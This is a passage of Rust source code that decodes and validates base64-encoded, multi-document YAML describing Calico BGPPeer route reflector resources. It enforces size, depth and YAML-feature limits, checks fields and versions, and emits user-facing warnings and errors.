//! `CALICO_ROUTE_REFLECTORS`: standard base64 -> bounded UTF-8 YAML (multi-document) -> validated BGPPeers.
//!
//! Layers of defence, each bounded:
//! 1. the encoded value: length limit, standard alphabet only, canonical padding, no whitespace inside;
//! 2. the decoded text: size limit, UTF-8;
//! 3. a scan of the raw YAML event stream (before any deserialisation): anchors, aliases, tags and merge keys
//!    are rejected, documents and nesting depth are counted, so nothing can expand;
//! 4. deserialisation with serde-saphyr under a tight [`serde_saphyr::Budget`] (no aliases, no anchors, merge
//!    keys an error, duplicate keys an error, strict booleans);
//! 5. per-document validation of every BGPPeer field and Calico's cross-field rules.
//!
//! Decision: `metadata` may only contain `name`. [`BgpPeer`] carries the name and spec only, so labels or
//! annotations would be silently dropped; rejecting them is honest. Fields that `calicoctl get -o yaml` adds
//! (`resourceVersion`, `uid`, `creationTimestamp`) are rejected with the same message.

use std::collections::BTreeSet;
use std::net::IpAddr;

use base64::Engine as _;
use serde_json::{Map, Value};
use serde_saphyr::granit_parser::{self, Event, ScalarStyle};

use super::keys::closest;
use super::problem::{display_value, escape, rules, shown};
use super::selector;
use super::values::{
    Family, ValueError, is_dns1123_subdomain, is_ipv4_mapped, parse_as_number_allow_zero,
    parse_go_duration, parse_peer_ip,
};
use super::{BgpPeer, CalicoVersion};

/// Longest accepted encoded value (bytes).
pub const MAX_ENCODED_LEN: usize = 96 * 1024;
/// Largest accepted decoded YAML (bytes).
pub const MAX_DECODED_LEN: usize = 64 * 1024;
/// Most YAML documents (peers) accepted.
pub const MAX_DOCUMENTS: usize = 50;
/// Deepest accepted YAML nesting (mappings and sequences).
pub const MAX_YAML_DEPTH: usize = 8;
/// Most YAML parser events accepted (a cheap overall bound).
const MAX_EVENTS: usize = 20_000;
/// Most entries in `spec.filters`.
const MAX_FILTERS: usize = 64;

/// The `spec` fields a BGPPeer may have (`reference/calico.md` §2.4).
pub const KNOWN_SPEC_FIELDS: [&str; 18] = [
    "node",
    "nodeSelector",
    "peerIP",
    "asNumber",
    "localASNumber",
    "peerSelector",
    "keepOriginalNextHop",
    "nextHopMode",
    "password",
    "sourceAddress",
    "maxRestartTime",
    "keepaliveTime",
    "numAllowedLocalASNumbers",
    "ttlSecurity",
    "reachableBy",
    "filters",
    "localWorkloadSelector",
    "reversePeering",
];

/// The BGPPeer `spec` fields that appeared after Calico v3.22 (the oldest `CALICO_VERSION` accepted), with the first
/// minor release that has them (read from `api/pkg/apis/projectcalico/v3/bgppeer.go` at each tag). calicoctl reads
/// its files strictly into its own version's types, so an older calicoctl refuses a document carrying a newer field.
pub const FIELDS_SINCE: [(&str, (u16, u16)); 9] = [
    ("numAllowedLocalASNumbers", (3, 23)),
    ("ttlSecurity", (3, 25)),
    ("reachableBy", (3, 25)),
    ("filters", (3, 26)),
    ("localWorkloadSelector", (3, 30)),
    ("localASNumber", (3, 31)),
    ("nextHopMode", (3, 31)),
    ("reversePeering", (3, 31)),
    ("keepaliveTime", (3, 32)),
];

/// What the webhook cannot check or deliver about valid `peers` that the user must know, as warnings:
///
/// - a `password` Secret is read by calico-node from its own namespace (`calico-system`), with a Role that lets it;
///   the webhook creates neither, and without them Calico sets the session up without the password;
/// - `filters` name BGPFilters, which Calico skips when they do not exist (routes go unfiltered);
/// - with `mesh_needed` (an encapsulation whose routes BGP carries: IPIP or none), the node-to-node mesh goes off,
///   so every node needs a peer: a `peerSelector` peer (other than `all()`, a full mesh) only works with route
///   reflector nodes (a cluster ID on the nodes), and without a peer for all nodes some nodes may learn no pod
///   routes.
pub fn warnings(peers: &[BgpPeer], mesh_needed: bool) -> Vec<String> {
    let mut warnings = Vec::new();
    let secrets: BTreeSet<&str> = peers
        .iter()
        .filter_map(|p| {
            p.spec
                .get("password")?
                .pointer("/secretKeyRef/name")?
                .as_str()
        })
        .collect();
    let mut to_create = |what: &str, names: BTreeSet<&str>| {
        if !names.is_empty() {
            let names: Vec<&str> = names.into_iter().collect();
            // The names last: a long list is cut, never the instruction.
            warnings.push(format!("capi-calico: {what}: {}", names.join(", ")));
        }
    };
    to_create(
        "BGP password Secrets to create in calico-system, readable by calico-node",
        secrets,
    );
    let filters: BTreeSet<&str> = peers
        .iter()
        .filter_map(|p| p.spec.get("filters")?.as_array())
        .flatten()
        .filter_map(Value::as_str)
        .collect();
    to_create(
        "BGPFilters to create (Calico skips a missing one: routes unfiltered)",
        filters,
    );
    if mesh_needed {
        // `peerSelector: all()` peers rebuild a full mesh from BGPPeers: no route reflector needed.
        if peers
            .iter()
            .any(|p| text(p, "peerSelector").is_some_and(|s| !s.is_empty() && s != "all()"))
        {
            warnings.push(
                "capi-calico: peerSelector peers: make the selected nodes route reflectors (Node spec.bgp.routeReflectorClusterID)"
                    .to_string(),
            );
        }
        let for_all_nodes = |p: &&BgpPeer| {
            text(p, "node").is_none_or(str::is_empty)
                && text(p, "nodeSelector").is_none_or(|s| s.is_empty() || s == "all()")
        };
        let peers_somewhere = |p: &BgpPeer| {
            text(p, "peerIP").is_some_and(|s| !s.is_empty())
                || text(p, "peerSelector").is_some_and(|s| !s.is_empty())
        };
        if !peers.iter().filter(for_all_nodes).any(peers_somewhere) {
            warnings.push(
                "capi-calico: no BGPPeer is for all nodes: with the mesh off, some nodes may get no pod routes; add one \
                 without node"
                    .to_string(),
            );
        }
    }
    warnings
}

fn text<'a>(peer: &'a BgpPeer, field: &str) -> Option<&'a str> {
    peer.spec.get(field).and_then(Value::as_str).map(str::trim)
}

/// The fields of `peers` that `version`'s calicoctl does not know, one error per peer and field.
pub fn fields_newer_than(peers: &[BgpPeer], version: CalicoVersion) -> Vec<PeerError> {
    let mut errors = Vec::new();
    for peer in peers {
        for (field, (major, minor)) in FIELDS_SINCE {
            if peer.spec.contains_key(field) && (version.major, version.minor) < (major, minor) {
                errors.push(PeerError::doc(
                    rules::BGP_PEER_FIELD_VERSION,
                    format!(
                        "BGPPeer {:?}: spec.{field} needs Calico v{major}.{minor} or later, and CALICO_VERSION is \
                         {version} (its calicoctl refuses the field): remove it, or raise CALICO_VERSION",
                        peer.name
                    ),
                ));
            }
        }
    }
    errors
}

/// One thing wrong with `CALICO_ROUTE_REFLECTORS`.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{message}")]
pub struct PeerError {
    /// Stable rule id.
    pub rule: &'static str,
    /// The message. When `about_value` is true it is phrased to follow the displayed (encoded) value; otherwise it
    /// starts with the document it concerns (`document 2 (BGPPeer "rr-2"): ...`).
    pub message: String,
    /// True for problems with the encoded value as a whole (encoding, size, YAML syntax).
    pub about_value: bool,
}

impl PeerError {
    fn value(rule: &'static str, message: impl Into<String>) -> Self {
        PeerError {
            rule,
            message: message.into(),
            about_value: true,
        }
    }
    fn doc(rule: &'static str, message: impl Into<String>) -> Self {
        PeerError {
            rule,
            message: message.into(),
            about_value: false,
        }
    }
}

/// Parse and validate `CALICO_ROUTE_REFLECTORS`. An empty value means no peers. `cluster_as` (the valid
/// `CALICO_BGP_AS_NUMBER`, if any) is only used to make suggestions concrete. All problems are returned.
pub fn parse_route_reflectors(
    raw: &str,
    cluster_as: Option<u32>,
) -> Result<Vec<BgpPeer>, Vec<PeerError>> {
    if raw.is_empty() {
        return Ok(Vec::new());
    }
    let text = decode(raw).map_err(|e| vec![e])?;
    let doc_numbers = scan_yaml(&text).map_err(|e| vec![e])?;
    let values = deserialize(&text).map_err(|e| vec![e])?;
    if values.is_empty() {
        return Err(vec![PeerError::value(
            rules::ROUTE_REFLECTORS_EMPTY,
            "decodes to no YAML documents: give at least one BGPPeer, or remove the annotation",
        )]);
    }
    // serde-saphyr skips null documents; map back to the 1-based document numbers the user sees.
    let numbers: Vec<usize> = if doc_numbers.len() == values.len() {
        doc_numbers
    } else {
        (1..=values.len()).collect()
    };

    let mut problems = Vec::new();
    let mut peers = Vec::new();
    let mut names = BTreeSet::new();
    for (value, number) in values.iter().zip(numbers) {
        let mut doc = DocCheck {
            number,
            name: None,
            problems: &mut problems,
        };
        let peer = doc.check(value, cluster_as);
        // Reported whether or not the documents are otherwise valid, so one pass shows every problem.
        if let Some(name) = doc.name.clone()
            && !names.insert(name)
        {
            let context = doc.context();
            doc.problems.push(PeerError::doc(
                rules::BGP_PEER_DUPLICATE_NAME,
                format!("{context}: metadata.name is used by an earlier document; BGPPeer names must be unique"),
            ));
        }
        peers.extend(peer);
    }
    if problems.is_empty() {
        Ok(peers)
    } else {
        Err(problems)
    }
}

/// Base64 (standard alphabet, canonical padding, one line) to bounded UTF-8 text.
fn decode(raw: &str) -> Result<String, PeerError> {
    let encoding = |message: String| PeerError::value(rules::ROUTE_REFLECTORS_ENCODING, message);
    if raw.len() > MAX_ENCODED_LEN {
        return Err(PeerError::value(
            rules::ROUTE_REFLECTORS_LIMIT,
            format!(
                "is too long: at most {} KiB of base64 is accepted",
                MAX_ENCODED_LEN / 1024
            ),
        ));
    }
    // ':' is not in the base64 alphabet: YAML pasted as it is.
    if raw.contains("apiVersion:") || raw.contains("kind:") || raw.trim_start().starts_with("---") {
        return Err(encoding(
            "is YAML, not base64: set it to the output of `base64 -w 0 peers.yaml` (GNU) or \
             `base64 < peers.yaml | tr -d '\\n'`"
                .into(),
        ));
    }
    if let Some(i) = raw.find(|c: char| c.is_whitespace()) {
        let position = raw[..i].chars().count() + 1;
        return Err(encoding(format!(
            "is not one-line base64: it has a line break or space at position {position}; encode with \
             `base64 -w 0` (GNU) or `base64 | tr -d '\\n'`"
        )));
    }
    if raw.contains(['-', '_']) {
        return Err(encoding(
            "is not standard base64: '-' and '_' belong to the URL-safe alphabet; encode with `base64 -w 0`".into(),
        ));
    }
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(raw)
        .map_err(|e| {
            encoding(format!(
                "is not valid standard base64 ({}); encode the YAML with `base64 -w 0`",
                escape(&e.to_string())
            ))
        })?;
    if bytes.len() > MAX_DECODED_LEN {
        return Err(PeerError::value(
            rules::ROUTE_REFLECTORS_LIMIT,
            format!(
                "decodes to {} bytes: at most {} KiB of YAML is accepted",
                bytes.len(),
                MAX_DECODED_LEN / 1024
            ),
        ));
    }
    String::from_utf8(bytes).map_err(|_| {
        encoding("does not decode to UTF-8 text: it must be base64 of a YAML file".into())
    })
}

/// Scan the YAML event stream: reject anchors, aliases, tags and merge keys; bound documents, depth and events.
/// Returns the 1-based numbers of the non-null documents.
fn scan_yaml(text: &str) -> Result<Vec<usize>, PeerError> {
    let feature = |what: &str| {
        let fix = if what.contains("tag") {
            "remove the tag (quote a value that must stay text)"
        } else {
            "write every BGPPeer out in full"
        };
        PeerError::value(
            rules::ROUTE_REFLECTORS_YAML_FEATURE,
            format!(
                "decodes to YAML with {what}, which is not accepted (nothing may expand or change type); {fix}"
            ),
        )
    };
    let mut options = granit_parser::Options::default();
    options.flow_nesting_limit = MAX_YAML_DEPTH;
    options.block_nesting_limit = MAX_YAML_DEPTH + 1;
    options.disallow_directives = true;
    options.emit_unresolved_aliases = true;
    let parser = granit_parser::Parser::new_from_str_with_options(text, options);

    let mut documents = 0usize;
    let mut non_null = Vec::new();
    let mut depth = 0usize;
    // For the current document: index of its first node event, and whether that root was a null scalar.
    let mut root_seen = false;
    let mut root_null = false;
    for (count, item) in parser.enumerate() {
        if count > MAX_EVENTS {
            return Err(PeerError::value(
                rules::ROUTE_REFLECTORS_LIMIT,
                "decodes to YAML that is too large",
            ));
        }
        let (event, _span) = item.map_err(|e| yaml_error(&e.to_string()))?;
        let is_node = matches!(
            event,
            Event::Scalar(..) | Event::SequenceStart(..) | Event::MappingStart(..)
        );
        if is_node && depth == 0 && !root_seen {
            root_seen = true;
            root_null = matches!(&event, Event::Scalar(v, ScalarStyle::Plain, 0, None)
                if matches!(v.as_ref(), "" | "~" | "null" | "Null" | "NULL"));
        }
        match &event {
            Event::Alias(_) | Event::UnresolvedAlias(_) => return Err(feature("an alias (*name)")),
            Event::Scalar(value, style, anchor, tag) => {
                if *anchor != 0 {
                    return Err(feature("an anchor (&name)"));
                }
                if tag.is_some() {
                    return Err(feature("a tag (!name)"));
                }
                if *style == ScalarStyle::Plain && value.as_ref() == "<<" {
                    return Err(feature("a merge key (<<)"));
                }
            }
            Event::SequenceStart(_, anchor, tag) | Event::MappingStart(_, anchor, tag) => {
                if *anchor != 0 {
                    return Err(feature("an anchor (&name)"));
                }
                if tag.is_some() {
                    return Err(feature("a tag (!name)"));
                }
                depth += 1;
                if depth > MAX_YAML_DEPTH {
                    return Err(PeerError::value(
                        rules::ROUTE_REFLECTORS_LIMIT,
                        format!("decodes to YAML nested deeper than {MAX_YAML_DEPTH} levels"),
                    ));
                }
            }
            Event::SequenceEnd | Event::MappingEnd => depth = depth.saturating_sub(1),
            Event::DocumentStart(..) => {
                documents += 1;
                root_seen = false;
                root_null = false;
                if documents > MAX_DOCUMENTS {
                    return Err(PeerError::value(
                        rules::ROUTE_REFLECTORS_LIMIT,
                        format!(
                            "decodes to more than {MAX_DOCUMENTS} YAML documents: at most {MAX_DOCUMENTS} BGPPeers are accepted"
                        ),
                    ));
                }
            }
            Event::DocumentEnd if root_seen && !root_null => non_null.push(documents),
            _ => {}
        }
    }
    Ok(non_null)
}

fn yaml_error(detail: &str) -> PeerError {
    let mut detail = escape(&crate::manifest::plain_yaml_error(detail));
    if detail.chars().count() > 160 {
        detail = detail.chars().take(160).collect::<String>() + "…";
    }
    PeerError::value(
        rules::ROUTE_REFLECTORS_YAML,
        format!("decodes to text that is not valid YAML: {detail}"),
    )
}

/// Deserialise the (already scanned) YAML into JSON values under a tight budget.
fn deserialize(text: &str) -> Result<Vec<Value>, PeerError> {
    let mut budget = serde_saphyr::Budget::default();
    budget.max_documents = MAX_DOCUMENTS;
    budget.max_depth = MAX_YAML_DEPTH;
    budget.max_events = MAX_EVENTS;
    budget.max_aliases = 0;
    budget.max_anchors = 0;
    budget.max_merge_keys = 0;
    budget.max_nodes = MAX_EVENTS;
    budget.max_total_scalar_bytes = MAX_DECODED_LEN;
    budget.flow_nesting_limit = MAX_YAML_DEPTH;
    let mut options = serde_saphyr::Options::default();
    options.budget = Some(budget);
    options.merge_keys = serde_saphyr::MergeKeyPolicy::Error;
    options.duplicate_keys = serde_saphyr::DuplicateKeyPolicy::Error;
    options.strict_booleans = true;
    // `064512` and `64_512` stay strings, so the strict AS/number checks see exactly what was written.
    options.leading_zero_numbers_as_strings = true;
    options.underscored_numbers_as_strings = true;
    options.reject_unsupported_tags = true;
    options.with_snippet = false;
    serde_saphyr::from_str_multiple_with_options::<Value, Vec<Value>>(text, options)
        .map_err(|e| yaml_error(&e.to_string()))
}

/// Validation of one document.
struct DocCheck<'p> {
    number: usize,
    name: Option<String>,
    problems: &'p mut Vec<PeerError>,
}

/// Render a JSON value for a message: strings quoted and escaped, everything truncated.
fn show(value: &Value) -> String {
    match value {
        Value::String(s) => display_value(s),
        other => {
            let text = other.to_string();
            if text.chars().count() > 60 {
                format!("{}…", text.chars().take(60).collect::<String>())
            } else {
                text
            }
        }
    }
}

fn kind_of(value: &Value) -> &'static str {
    match value {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "a list",
        Value::Object(_) => "a mapping",
    }
}

/// The BGPPeer `spec` fields that are plain Go strings with `omitempty` in Calico's `bgppeer.go`: `""` is the same as
/// not set there.
const PLAIN_STRING_FIELDS: [&str; 7] = [
    "node",
    "nodeSelector",
    "peerIP",
    "peerSelector",
    "sourceAddress",
    "reachableBy",
    "localWorkloadSelector",
];

/// `spec` without its plain string fields set to the empty string: Calico reads `""` there as not set
/// (`peerSelector: ""` beside `peerIP` is not a conflict, and `node: ""` is no node), so they are checked, and
/// rendered, as absent. Any other field set to `""` (a pointer, number, list or unknown field) is still checked.
fn without_empty_strings(spec: &Map<String, Value>) -> Map<String, Value> {
    spec.iter()
        .filter(|(field, value)| {
            !(PLAIN_STRING_FIELDS.contains(&field.as_str()) && value.as_str() == Some(""))
        })
        .map(|(field, value)| (field.clone(), value.clone()))
        .collect()
}

impl DocCheck<'_> {
    fn context(&self) -> String {
        match &self.name {
            Some(name) => format!("document {} (BGPPeer \"{}\")", self.number, shown(name)),
            None => format!("document {}", self.number),
        }
    }

    fn push(&mut self, rule: &'static str, message: impl AsRef<str>) {
        let context = self.context();
        self.problems.push(PeerError::doc(
            rule,
            format!("{context}: {}", message.as_ref()),
        ));
    }

    fn field(&mut self, rule: &'static str, field: &str, value: &Value, message: impl AsRef<str>) {
        self.push(
            rule,
            format!("spec.{field} {} {}", show(value), message.as_ref()),
        );
    }

    /// Check a whole document. Returns the peer when the document is fully valid.
    fn check(&mut self, value: &Value, cluster_as: Option<u32>) -> Option<BgpPeer> {
        let before = self.problems.len();
        let Value::Object(doc) = value else {
            self.push(
                rules::BGP_PEER_KIND,
                format!("is {}, not a BGPPeer mapping", kind_of(value)),
            );
            return None;
        };
        // Name first, so every later message names the peer.
        let metadata = doc.get("metadata");
        if let Some(Value::Object(meta)) = metadata
            && let Some(Value::String(name)) = meta.get("name")
        {
            self.name = Some(name.chars().take(80).collect());
        }
        for key in doc.keys() {
            if !matches!(key.as_str(), "apiVersion" | "kind" | "metadata" | "spec") {
                self.push(
                    rules::BGP_PEER_KIND,
                    format!(
                        "unknown top-level field \"{}\": a BGPPeer has only apiVersion, kind, metadata and spec",
                        shown(key)
                    ),
                );
            }
        }
        match doc.get("apiVersion") {
            Some(Value::String(v)) if v == "projectcalico.org/v3" => {}
            Some(other) => self.push(
                rules::BGP_PEER_KIND,
                format!(
                    "apiVersion {} is not accepted: use projectcalico.org/v3",
                    show(other)
                ),
            ),
            None => self.push(
                rules::BGP_PEER_KIND,
                "apiVersion is missing: use projectcalico.org/v3",
            ),
        }
        match doc.get("kind") {
            Some(Value::String(v)) if v == "BGPPeer" => {}
            Some(Value::String(v)) if v.eq_ignore_ascii_case("BGPPeer") => self.push(
                rules::BGP_PEER_KIND,
                format!(
                    "kind {} is not accepted: did you mean \"BGPPeer\"? (case-sensitive)",
                    display_value(v)
                ),
            ),
            Some(other) => self.push(
                rules::BGP_PEER_KIND,
                format!(
                    "kind {} is not accepted: only BGPPeer documents are allowed",
                    show(other)
                ),
            ),
            None => self.push(rules::BGP_PEER_KIND, "kind is missing: use BGPPeer"),
        }
        let name = self.check_metadata(metadata);
        let spec = match doc.get("spec") {
            Some(Value::Object(spec)) => self.check_spec(&without_empty_strings(spec), cluster_as),
            Some(other) => {
                self.push(
                    rules::BGP_PEER_FIELD,
                    format!("spec is {}, not a mapping", kind_of(other)),
                );
                None
            }
            None => {
                self.push(
                    rules::BGP_PEER_FIELD,
                    "spec is missing: a BGPPeer needs at least peerIP and asNumber",
                );
                None
            }
        };
        match (name, spec) {
            (Some(name), Some(spec)) if self.problems.len() == before => {
                Some(BgpPeer { name, spec })
            }
            _ => None,
        }
    }

    fn check_metadata(&mut self, metadata: Option<&Value>) -> Option<String> {
        let meta = match metadata {
            Some(Value::Object(meta)) => meta,
            Some(other) => {
                self.push(
                    rules::BGP_PEER_NAME,
                    format!("metadata is {}, not a mapping", kind_of(other)),
                );
                return None;
            }
            None => {
                self.push(rules::BGP_PEER_NAME, "metadata.name is missing");
                return None;
            }
        };
        for key in meta.keys().filter(|k| k.as_str() != "name") {
            self.push(
                rules::BGP_PEER_KIND,
                format!(
                    "metadata.{} is not accepted: only metadata.name may be set",
                    shown(key)
                ),
            );
        }
        match meta.get("name") {
            Some(Value::String(name)) if is_dns1123_subdomain(name) => Some(name.clone()),
            Some(Value::String(name)) => {
                self.push(
                    rules::BGP_PEER_NAME,
                    format!(
                        "metadata.name {} is not a valid name: use lower-case letters, digits, '-' and '.', \
                         starting and ending with a letter or digit, at most 253 characters",
                        display_value(name)
                    ),
                );
                None
            }
            Some(other) => {
                self.push(
                    rules::BGP_PEER_NAME,
                    format!("metadata.name is {}, not a string", kind_of(other)),
                );
                None
            }
            None => {
                self.push(rules::BGP_PEER_NAME, "metadata.name is missing");
                None
            }
        }
    }

    fn string<'v>(&mut self, field: &str, value: &'v Value) -> Option<&'v str> {
        match value {
            Value::String(s) => Some(s),
            other => {
                self.field(
                    rules::BGP_PEER_FIELD,
                    field,
                    other,
                    format!("is {}, not a string", kind_of(other)),
                );
                None
            }
        }
    }

    fn enumeration(&mut self, field: &str, value: &Value, choices: &[&str]) -> Option<Value> {
        let s = self.string(field, value)?;
        if choices.contains(&s) {
            return Some(value.clone());
        }
        let suggestion = choices
            .iter()
            .find(|c| c.eq_ignore_ascii_case(s))
            .copied()
            .or_else(|| closest(s, choices));
        let listed = choices.join(", ");
        let message = match suggestion {
            Some(c) => format!(
                "is not valid: did you mean \"{c}\"? Values are case-sensitive, one of: {listed}"
            ),
            None => format!("is not valid: use one of {listed} (case-sensitive)"),
        };
        self.field(rules::BGP_PEER_FIELD, field, value, message);
        None
    }

    fn selector(&mut self, field: &str, value: &Value) -> Option<Value> {
        let s = self.string(field, value)?;
        match selector::validate(s) {
            Ok(()) => Some(value.clone()),
            Err(e) => {
                self.field(
                    rules::BGP_PEER_SELECTOR,
                    field,
                    value,
                    format!("is not a valid Calico selector: {e}"),
                );
                None
            }
        }
    }

    fn integer(&mut self, field: &str, value: &Value, max: u64) -> Option<Value> {
        match value.as_u64() {
            Some(n) if n <= max => Some(Value::from(n)),
            _ => {
                self.field(
                    rules::BGP_PEER_FIELD,
                    field,
                    value,
                    format!("is not valid: use a whole number from 0 to {max}"),
                );
                None
            }
        }
    }

    fn boolean(&mut self, field: &str, value: &Value) -> Option<Value> {
        match value {
            Value::Bool(_) => Some(value.clone()),
            other => {
                self.field(
                    rules::BGP_PEER_FIELD,
                    field,
                    other,
                    "is not a boolean: use true or false",
                );
                None
            }
        }
    }

    /// An AS number as a YAML number or string (decimal or asdot). Returns the numeric value (0 allowed here).
    fn as_number(&mut self, field: &str, value: &Value) -> Option<u32> {
        let parsed = match value {
            // A whole number too large for u64 reaches here as a float (1e20, -1e20).
            Value::Number(n) => match (n.as_u64(), n.as_f64().unwrap_or(0.0)) {
                (Some(n), _) => parse_as_number_allow_zero(&n.to_string()),
                (None, f) if f < 0.0 => Err(ValueError::new(
                    rules::AS_NUMBER_FORMAT,
                    "is not an AS number: it must not be negative",
                )),
                (None, f) if f.fract() == 0.0 && f > 2_147_483_647.0 => Err(ValueError::new(
                    rules::AS_NUMBER_RANGE,
                    "is out of range: the largest usable AS number is 2147483647",
                )),
                (None, _) => Err(ValueError::new(
                    rules::AS_NUMBER_FORMAT,
                    "is not an AS number: write an asdot AS number as a quoted string, e.g. \"1.10\"",
                )),
            },
            Value::String(s) => parse_as_number_allow_zero(s),
            other => Err(ValueError::new(
                rules::AS_NUMBER_FORMAT,
                format!("is {}, not an AS number", kind_of(other)),
            )),
        };
        match parsed {
            Ok(n) => Some(n),
            Err(e) => {
                self.field(rules::BGP_PEER_AS_NUMBER, field, value, e.message);
                None
            }
        }
    }

    fn check_spec(
        &mut self,
        spec: &Map<String, Value>,
        cluster_as: Option<u32>,
    ) -> Option<Map<String, Value>> {
        let before = self.problems.len();
        let mut out = Map::new();
        // Typed values for the cross-field rules.
        let mut as_number: Option<u32> = None;
        let mut peer_ip: Option<IpAddr> = None;
        let mut reachable_by: Option<IpAddr> = None;

        for (field, value) in spec {
            let checked: Option<Value> = match field.as_str() {
                "node" => self.string(field, value).and_then(|s| {
                    if is_dns1123_subdomain(s) {
                        Some(value.clone())
                    } else {
                        self.field(rules::BGP_PEER_FIELD, field, value, "is not a valid node name (DNS-1123 subdomain)");
                        None
                    }
                }),
                "nodeSelector" | "peerSelector" | "localWorkloadSelector" => self.selector(field, value),
                "peerIP" => self.string(field, value).and_then(|s| match parse_peer_ip(s) {
                    Ok((addr, _)) => {
                        peer_ip = Some(addr);
                        Some(value.clone())
                    }
                    Err(message) => {
                        self.field(rules::BGP_PEER_FIELD, field, value, message);
                        None
                    }
                }),
                "asNumber" => self.as_number(field, value).map(|n| {
                    as_number = Some(n);
                    Value::from(n)
                }),
                "localASNumber" => self.as_number(field, value).and_then(|n| {
                    if n == 0 {
                        self.field(
                            rules::BGP_PEER_AS_NUMBER,
                            field,
                            value,
                            "is not allowed: AS 0 is reserved (RFC 7607); omit localASNumber to use the global AS",
                        );
                        None
                    } else {
                        Some(Value::from(n))
                    }
                }),
                "keepOriginalNextHop" => self.boolean(field, value),
                "nextHopMode" => self.enumeration(field, value, &["Auto", "Self", "Keep"]),
                "reversePeering" => self.enumeration(field, value, &["Auto", "Manual"]),
                "sourceAddress" => self.enumeration(field, value, &["UseNodeIP", "None"]),
                "password" => self.password(value),
                "maxRestartTime" | "keepaliveTime" if value.is_number() => {
                    self.field(
                        rules::BGP_PEER_FIELD,
                        field,
                        value,
                        format!("is a number, not a duration: write it with its unit, e.g. \"{value}s\""),
                    );
                    None
                }
                "maxRestartTime" | "keepaliveTime" => self.string(field, value).and_then(|s| match parse_go_duration(s) {
                    Ok(()) => Some(value.clone()),
                    Err(message) => {
                        self.field(rules::BGP_PEER_FIELD, field, value, message);
                        None
                    }
                }),
                "numAllowedLocalASNumbers" => self.integer(field, value, 2_147_483_647),
                "ttlSecurity" => self.integer(field, value, 255),
                "reachableBy" => self.string(field, value).and_then(|s| match s.parse::<IpAddr>() {
                    Ok(addr) if is_ipv4_mapped(&addr) => {
                        self.field(rules::BGP_PEER_FIELD, field, value, "is an IPv4-mapped IPv6 address, which Calico reads as IPv4: write the IPv4 address");
                        None
                    }
                    Ok(addr) => {
                        reachable_by = Some(addr);
                        Some(value.clone())
                    }
                    Err(_) => {
                        self.field(rules::BGP_PEER_FIELD, field, value, "is not an IP address (no port, no prefix)");
                        None
                    }
                }),
                "filters" => self.filters(value),
                unknown => {
                    let hint = match closest(unknown, &KNOWN_SPEC_FIELDS) {
                        Some(c) => format!("did you mean \"{c}\"? "),
                        None => String::new(),
                    };
                    self.push(
                        rules::BGP_PEER_UNKNOWN_FIELD,
                        format!(
                            "spec.{} is not a BGPPeer field: {hint}known fields: {}",
                            shown(unknown),
                            KNOWN_SPEC_FIELDS.join(", ")
                        ),
                    );
                    None
                }
            };
            if let Some(v) = checked {
                out.insert(field.clone(), v);
            }
        }
        self.cross_field(spec, as_number, peer_ip, reachable_by, cluster_as);
        (self.problems.len() == before).then_some(out)
    }

    fn password(&mut self, value: &Value) -> Option<Value> {
        let Value::Object(password) = value else {
            self.field(
                rules::BGP_PEER_FIELD,
                "password",
                value,
                "is not a mapping: use password: {secretKeyRef: {name, key}}",
            );
            return None;
        };
        let before = self.problems.len();
        for key in password.keys().filter(|k| k.as_str() != "secretKeyRef") {
            self.push(
                rules::BGP_PEER_UNKNOWN_FIELD,
                format!(
                    "spec.password.{} is not a field: only secretKeyRef",
                    shown(key)
                ),
            );
        }
        let Some(reference) = password.get("secretKeyRef") else {
            self.push(
                rules::BGP_PEER_FIELD,
                "spec.password.secretKeyRef is missing",
            );
            return None;
        };
        let Value::Object(reference) = reference else {
            self.push(
                rules::BGP_PEER_FIELD,
                "spec.password.secretKeyRef is not a mapping of name, key and optional",
            );
            return None;
        };
        for key in reference
            .keys()
            .filter(|k| !matches!(k.as_str(), "name" | "key" | "optional"))
        {
            self.push(
                rules::BGP_PEER_UNKNOWN_FIELD,
                format!(
                    "spec.password.secretKeyRef.{} is not a field: use name, key and optional",
                    shown(key)
                ),
            );
        }
        match reference.get("name") {
            Some(Value::String(s)) if is_dns1123_subdomain(s) => {}
            Some(other) => self.field(
                rules::BGP_PEER_FIELD,
                "password.secretKeyRef.name",
                other,
                "is not a valid Secret name (DNS-1123 subdomain)",
            ),
            None => self.push(
                rules::BGP_PEER_FIELD,
                "spec.password.secretKeyRef.name is missing",
            ),
        }
        match reference.get("key") {
            Some(Value::String(s))
                if !s.is_empty()
                    && s.len() <= 253
                    && s.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.')) => {}
            Some(other) => self.field(
                rules::BGP_PEER_FIELD,
                "password.secretKeyRef.key",
                other,
                "is not a valid Secret key (letters, digits, '-', '_' and '.')",
            ),
            None => self.push(
                rules::BGP_PEER_FIELD,
                "spec.password.secretKeyRef.key is missing",
            ),
        }
        if let Some(optional) = reference.get("optional")
            && !optional.is_boolean()
        {
            self.field(
                rules::BGP_PEER_FIELD,
                "password.secretKeyRef.optional",
                optional,
                "is not a boolean",
            );
        }
        (self.problems.len() == before).then(|| value.clone())
    }

    fn filters(&mut self, value: &Value) -> Option<Value> {
        let Value::Array(items) = value else {
            self.field(
                rules::BGP_PEER_FIELD,
                "filters",
                value,
                "is not a list of BGPFilter names",
            );
            return None;
        };
        if items.len() > MAX_FILTERS {
            self.push(
                rules::BGP_PEER_FIELD,
                format!("spec.filters has more than {MAX_FILTERS} entries"),
            );
            return None;
        }
        let before = self.problems.len();
        for item in items {
            match item {
                Value::String(s) if is_dns1123_subdomain(s) => {}
                other => self.field(
                    rules::BGP_PEER_FIELD,
                    "filters",
                    other,
                    "is not a valid BGPFilter name",
                ),
            }
        }
        (self.problems.len() == before).then(|| value.clone())
    }

    /// Calico's cross-field rules (`reference/calico.md` §2.4, 1-6) plus: a peerIP peer needs a real AS number.
    fn cross_field(
        &mut self,
        spec: &Map<String, Value>,
        as_number: Option<u32>,
        peer_ip: Option<IpAddr>,
        reachable_by: Option<IpAddr>,
        cluster_as: Option<u32>,
    ) {
        let has = |f: &str| spec.contains_key(f);
        // asNumber present but unparsable: already reported, do not pile on.
        let as_invalid = has("asNumber") && as_number.is_none();
        let conflict = rules::BGP_PEER_CONFLICT;
        if has("node") && has("nodeSelector") {
            self.push(conflict, "spec.node and spec.nodeSelector are mutually exclusive: set one of them (or neither, for all nodes)");
        }
        if has("peerIP") && has("peerSelector") {
            self.push(
                conflict,
